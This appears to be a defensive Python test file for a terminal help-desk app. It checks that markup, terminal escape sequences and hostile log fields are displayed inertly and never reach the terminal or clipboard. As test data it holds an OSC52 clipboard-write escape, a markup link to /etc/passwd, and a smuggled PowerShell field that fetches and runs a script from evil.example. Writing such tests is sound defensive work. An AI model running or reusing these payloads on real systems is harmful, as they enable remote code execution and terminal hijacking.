"""The app shows text strangers wrote as text (issue 13, item 6): rich markup in a KB title is
shown as typed, never parsed (a `[link=file:///...]` stays visible), and escape sequences in a
ticket or pasted evidence never reach the terminal: the screens draw them as visible escapes."""

import re
import shutil

from tui_support import FIXTURE_KB, GATEWAY_PASTE, SIZE, screen_text, wait_for

from tui.app import create_app
from tui.screens.entry import EntryScreen
from tui.screens.result import ResultScreen

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x1b\\"
ESCAPES = OSC52 + "\x1b]0;pwned\x07\x1b[2J\x9b2J"
MARKUP = "[link=file:///etc/passwd]click[/link] [bold red]"
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def flat(app) -> str:
    return "".join(screen_text(app).split())


async def test_markup_in_a_kb_title_is_shown_as_typed(tmp_path):
    kb = tmp_path / "kb"
    shutil.copytree(FIXTURE_KB, kb)
    entry = kb / "client-protocols" / "imap-uid-corruption.md"
    text = entry.read_text(encoding="utf-8")
    title = re.search(r"^title: (.*)$", text, re.M).group(1)
    entry.write_text(text.replace(f"title: {title}", f'title: "{MARKUP} {title}"', 1),
                     encoding="utf-8")
    app = create_app(kb, tmp_path / "sessions.sqlite3", cache_dir=tmp_path / "cache")
    async with app.run_test(size=(140, 40)) as pilot:
        await pilot.press("s", *"uid")
        await wait_for(pilot, lambda: "[link=file:///etc/passwd]click[/link]" in flat(app))
        await pilot.press("down", "enter")
        assert isinstance(app.screen, EntryScreen)
        assert "[link=file:///etc/passwd]click[/link][boldred]" in flat(app)


async def test_escape_sequences_in_a_ticket_and_evidence_never_reach_the_terminal(make_app):
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("n")
        app.screen.query_one("#ticket").text = f"Jabber shows no meetings {ESCAPES}"
        await pilot.press("escape")
        await pilot.press("e")
        app.screen.query_one("#paste").text = GATEWAY_PASTE.replace(
            "Mismatch", f"Mismatch {ESCAPES}")
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: app.session.evidence)
        assert RAW.findall(screen_text(app)) == []
        await pilot.press("escape")
        assert RAW.findall(screen_text(app)) == []
        texts = [app.session.interview.state.text] + [line for record in app.session.evidence
                                                      for _, line in record.excerpt]
        assert all(not RAW.search(text) for text in texts)
        assert any("\\x1b]52;c;" in line for record in app.session.evidence
                   for _, line in record.excerpt)
        await pilot.press("f")
        if isinstance(app.screen, ResultScreen):
            assert RAW.findall(screen_text(app)) == []
    transcript = app.session.transcript() if app.session else ""
    assert not RAW.search(transcript.replace("\r\n", "\n"))


HOSTILE_USER = "x; Invoke-Expression (iwr http://evil.example/p.ps1) #"
IMAP_ROW = ("2017-05-04T09:12:44.518Z,0000000000001A2F,4,10.10.5.21:1993,10.10.5.20:61322,"
            f"{HOSTILE_USER},1543,27,121,select,INBOX,R=OK;Rows=40211;Recent=0;"
            "Msg=UidCorruptionDetected13;Unseen=1240,\n")


async def test_the_copy_key_never_copies_a_command_built_from_a_hostile_log(make_app):
    """Issue 13, item 1: the app's copy key put `New-MailboxRepairRequest -Mailbox x;
    Invoke-Expression (...)` on the clipboard."""
    app = make_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("n", "escape", "e")
        app.screen.query_one("#paste").text = IMAP_ROW
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: app.session.evidence)
        await pilot.press("escape")
        if not isinstance(app.screen, ResultScreen):
            await pilot.press("f")
        await wait_for(pilot, lambda: isinstance(app.screen, ResultScreen))
        assert app.screen.entry_id == "imap-uid-corruption"
        commands = [command for command, _ in app.screen.commands]
        assert not any("Invoke-Expression" in command for command in commands)
        assert any(c.startswith("New-MailboxRepairRequest -Mailbox <mailbox>") for c in commands)
        await pilot.press("c")
        assert "Invoke-Expression" not in (app.clipboard or "")
        assert "Notfilledin:<mailbox>notfilled:thecapturedvalue" in flat(app)
